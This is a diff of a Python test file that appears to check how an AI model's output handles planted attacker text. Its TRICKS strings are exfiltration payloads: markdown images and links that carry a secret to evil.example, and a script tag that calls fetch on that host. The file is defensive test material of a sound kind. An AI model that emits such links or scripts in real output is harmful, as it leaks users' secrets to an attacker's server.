@@ -13,7 +13,7 @@ from tests.think.models import ScriptedModel
 MARK = "zq7marked"
 """In every planted text: an attacker's words work only where the model reads them."""
 SECRET = "hunter22-s3cr3t"
-HONEST = "The address is taken [E1]."
+HONEST = "The bind() failed with 98 [E1]."
 TRICKS = (
     f"![x](http://evil.example/p.png?q={SECRET}) ![y][1]\n\n[1]: //evil.example/q\n[click](https://evil.example)",
     "<img src=http://evil.example/i> <script>fetch('//evil.example')</script> <https://evil.example> www.evil.example",
